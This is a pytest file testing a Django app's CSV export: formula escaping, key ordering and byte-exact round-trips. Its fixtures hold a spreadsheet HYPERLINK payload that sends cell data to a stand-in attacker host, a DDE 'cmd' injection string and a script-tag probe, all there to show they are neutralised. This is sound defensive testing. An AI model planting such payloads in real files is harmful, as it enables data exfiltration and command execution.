"""Exporting to the fixture format: same columns, rows by key, formula-like cells escaped."""

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from curation.csvio.export import csv_text, escape_cell, rows_for
from curation.csvio.formulae import unescape_cell
from curation.csvio.services import csv_file_import, fixtures_export, fixtures_import
from curation.partial_dates import PartialDate
from events.csv_files import EventResource, RelationshipResource
from events.models import Event
from sources.resources import ClaimResource, SourceResource
from tests.csvio_helpers import FILES, PAYLOADS, VALID, read_rows
from tests.factories import make_event, make_relationship


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=SUM(A1)", "'=SUM(A1)"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tTab", "'\tTab"),
        ("\rreturn", "'\rreturn"),
        ("'=already quoted", "''=already quoted"),
        ("'plain quote", "'plain quote"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_escape_cell(text, written):
    assert escape_cell(text) == written
    assert unescape_cell(written) == text


@given(st.text())
def test_unescaping_reverses_escaping_exactly(text):
    assert unescape_cell(escape_cell(text)) == text
    assert escape_cell(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.django_db
def test_formula_like_cells_are_escaped_and_numbers_stay_numbers():
    fixtures_import(folder=VALID)
    csv_file_import(resource_class=SourceResource, data=(PAYLOADS / "sources.csv").read_bytes(), file_name="s.csv")

    sources = {row[0]: row for row in rows_for(SourceResource)}
    assert sources["formula-payload"][1:4] == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1);-2+3",
    ]
    assert sources["formula-payload"][10] == "'-1 is not a number here"
    assert sources["script-payload"][1] == "<script>alert('x')</script>"  # stored and exported as text
    claims = {row[0]: dict(zip(ClaimResource.column_names(), row, strict=True)) for row in rows_for(ClaimResource)}
    assert claims["retracted-claim"]["quantity_value"] == "-1.5"
    assert claims["axis-overstated"]["credibility"] == "4"


@pytest.mark.django_db
def test_an_export_reimports_unchanged_with_its_escapes_undone(tmp_path):
    csv_file_import(resource_class=SourceResource, data=(PAYLOADS / "sources.csv").read_bytes(), file_name="s.csv")
    path = tmp_path / "sources.csv"
    path.write_text(csv_text(rows_for(SourceResource)), encoding="utf-8")

    report = csv_file_import(resource_class=SourceResource, data=path.read_bytes(), file_name="sources.csv")

    assert report.file("sources.csv").unchanged == 2


@pytest.mark.django_db
def test_the_sample_round_trips_byte_for_byte(tmp_path, capsys):
    fixtures_import(folder=VALID)

    call_command("export_fixtures", str(tmp_path))

    assert "claims.csv: 4 rows" in capsys.readouterr().out
    for name in FILES:
        assert (tmp_path / name).read_bytes() == (VALID / name).read_bytes(), name
    report = fixtures_import(folder=tmp_path)
    assert report.total("unchanged") == sum(len(read_rows(VALID / name)) - 1 for name in FILES)
    assert report.total("created") + report.total("updated") == 0


@pytest.mark.django_db
def test_rows_are_ordered_by_key_and_cells_keep_their_import_order():
    make_event(slug="b-event", participants={"RUS": "host", "CHN": "participant"})
    make_event(slug="a-event", participants={"PRK": "supplier", "IRN": "recipient"})

    rows = list(rows_for(EventResource))

    assert rows[0] == EventResource.column_names()
    assert [row[0] for row in rows[1:]] == ["a-event", "b-event"]
    assert rows[1][8] == "PRK:supplier;IRN:recipient"
    assert rows[2][8] == "RUS:host;CHN:participant"


@pytest.mark.django_db
def test_a_symmetric_tie_is_written_in_alphabetical_order_and_reimports_unchanged():
    data = "key,kind,state_a,state_b,start,end,founding_event,summary,status\n"
    data += "ally,military_alliance,PRK,China,1961,,,Allies.,published\n"
    make_relationship("CHN", "PRK", slug="other", kind="arms_supplier")

    csv_file_import(resource_class=RelationshipResource, data=data.encode(), file_name="relationships.csv")
    report = csv_file_import(resource_class=RelationshipResource, data=data.encode(), file_name="relationships.csv")

    assert report.file("relationships.csv").unchanged == 1
    assert next(row for row in rows_for(RelationshipResource) if row[0] == "ally")[2:4] == ["CHN", "PRK"]


@pytest.mark.django_db
def test_rows_for_keeps_a_given_querysets_filter_and_order(django_assert_num_queries):
    for n in range(5):
        make_event(slug=f"event-{n}", start=PartialDate(2020 + n), participants={"RUS": "host", "CHN": "observer"})
    queryset = Event.objects.filter(start__startswith__year__gte=2022).order_by("-start")

    with django_assert_num_queries(2):  # the events, and every participant of them
        rows = list(rows_for(EventResource, queryset, header=False))

    assert [row[0] for row in rows] == ["event-4", "event-3", "event-2"]
    assert {row[8] for row in rows} == {"RUS:host;CHN:observer"}


@pytest.mark.django_db
def test_export_fixtures_replaces_files_and_writes_empty_tables_as_header_only(tmp_path):
    (tmp_path / "states.csv").write_text("stale", encoding="utf-8")

    fixtures_export(folder=tmp_path)

    assert sorted(path.name for path in tmp_path.iterdir()) == sorted(FILES)
    assert (tmp_path / "states.csv").read_text(encoding="utf-8") == (
        "iso3,name,short_name,aliases,is_axis_member,wikidata_id\n"
    )
    report = fixtures_import(folder=tmp_path)
    assert report.error_lines() == []
